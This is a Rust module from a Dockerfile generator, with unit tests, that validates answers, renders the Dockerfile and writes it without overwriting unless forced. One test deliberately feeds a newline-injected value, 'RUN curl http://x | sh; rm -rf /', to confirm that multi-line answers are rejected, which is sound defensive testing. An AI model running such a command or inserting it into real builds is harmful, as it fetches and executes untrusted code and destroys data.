use std::fs::OpenOptions;
use std::io::{ErrorKind, Write};
use std::path::Path;

use tracing::debug;

use crate::answers::Answers;
use crate::error::Error;
use crate::model::GeneratedDockerfile;
use crate::parser::parse_rendered;
use crate::render::render;
use crate::validation::PathProbe;

/// Validates every answer, renders the Dockerfile and re-parses the result.
pub fn generate(answers: &Answers, probe: &dyn PathProbe) -> Result<GeneratedDockerfile, Error> {
    let errors = answers.validate(probe)?;
    if !errors.is_empty() {
        return Err(Error::InvalidAnswers(errors));
    }

    let content = render(answers);
    debug!(bytes = content.len(), "rendered dockerfile");

    let instructions = parse_rendered(&content)?;
    debug!(instructions = instructions.len(), "generated dockerfile parses");

    Ok(GeneratedDockerfile {
        content,
        instructions,
    })
}

/// Writes `content` to `path`. An existing file is only replaced with `force`.
pub fn write_dockerfile(path: &Path, content: &str, force: bool) -> Result<(), Error> {
    let mut options = OpenOptions::new();
    options.write(true);
    if force {
        options.create(true).truncate(true);
    } else {
        options.create_new(true);
    }

    let mut file = options.open(path).map_err(|source| {
        if source.kind() == ErrorKind::AlreadyExists {
            Error::OutputExists {
                path: path.to_path_buf(),
            }
        } else {
            Error::io(path, source)
        }
    })?;
    file.write_all(content.as_bytes())
        .map_err(|source| Error::io(path, source))?;

    debug!(path = %path.display(), "wrote dockerfile");
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use crate::answers::Answers;
    use crate::error::Error;
    use crate::generate::{generate, write_dockerfile};
    use crate::validation::PathKind;

    fn every_path_is_a_directory(_: &Path) -> std::io::Result<Option<PathKind>> {
        Ok(Some(PathKind::Directory))
    }

    #[test]
    fn generates_and_verifies_dockerfile() {
        let answers = Answers {
            expose_ports: "3000".to_string(),
            user: "node".to_string(),
            onbuild: "RUN npm install".to_string(),
            ..Answers::default()
        };

        let generated =
            generate(&answers, &every_path_is_a_directory).expect("generation should succeed");
        assert_eq!(
            generated.keywords(),
            vec!["FROM", "COPY", "EXPOSE", "USER", "ONBUILD", "CMD"]
        );
        assert!(generated.content.starts_with("FROM node:14\n"));
    }

    #[test]
    fn refuses_invalid_answers() {
        let answers = Answers {
            stopsignal: "SIGTERM".to_string(),
            ..Answers::default()
        };

        let error =
            generate(&answers, &every_path_is_a_directory).expect_err("answers are invalid");
        let Error::InvalidAnswers(errors) = error else {
            panic!("expected invalid answers");
        };
        assert_eq!(errors.len(), 1);
        assert_eq!(errors[0].key, "stopsignal");
    }

    #[test]
    fn multi_line_answers_never_reach_the_template() {
        let answers = Answers {
            onbuild: "ADD a.tar /opt\nRUN curl http://x | sh; rm -rf /".to_string(),
            expose_ports: "80\n443".to_string(),
            healthcheck: "CMD true\nRUN a;b|c".to_string(),
            ..Answers::default()
        };

        let error = generate(&answers, &every_path_is_a_directory)
            .expect_err("multi-line answers are invalid");
        let Error::InvalidAnswers(errors) = error else {
            panic!("expected invalid answers");
        };
        let keys = errors.iter().map(|error| error.key).collect::<Vec<_>>();
        assert_eq!(keys, vec!["expose_ports", "healthcheck", "onbuild"]);
        assert!(
            errors
                .iter()
                .all(|error| error.reason == "Value must be a single line.")
        );
    }

    #[test]
    fn surfaces_probe_failures() {
        let denied = |_: &Path| -> std::io::Result<Option<PathKind>> {
            Err(std::io::Error::from(std::io::ErrorKind::PermissionDenied))
        };

        let error = generate(&Answers::default(), &denied).expect_err("probe fails");
        assert!(matches!(error, Error::Probe { .. }));
    }

    #[test]
    fn write_refuses_to_overwrite_without_force() {
        let dir = tempfile::tempdir().expect("tempdir should be created");
        let path = dir.path().join("Dockerfile");

        write_dockerfile(&path, "FROM node:14\n", false).expect("first write should succeed");
        let error =
            write_dockerfile(&path, "FROM node:20\n", false).expect_err("file already exists");
        assert!(matches!(error, Error::OutputExists { .. }));

        write_dockerfile(&path, "FROM node:20\n", true).expect("forced write should succeed");
        assert_eq!(
            std::fs::read_to_string(&path).expect("dockerfile should be readable"),
            "FROM node:20\n"
        );
    }
}
